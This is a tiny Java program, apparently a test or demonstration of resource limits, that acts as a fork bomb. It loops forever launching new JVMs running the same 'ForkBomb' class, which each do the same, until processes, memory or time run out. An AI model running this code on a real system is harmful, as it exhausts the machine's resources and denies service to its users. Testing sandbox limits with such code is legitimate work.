// A JVM that starts JVMs that start JVMs.
// ends: processes or memory or wall-time
void main() throws Exception {
  while (true) {
    try {
      new ProcessBuilder("/opt/java/bin/java", "-cp", System.getProperty("java.class.path"), "ForkBomb").start();
    } catch (java.io.IOException e) {
      Thread.sleep(1);
    }
  }
}
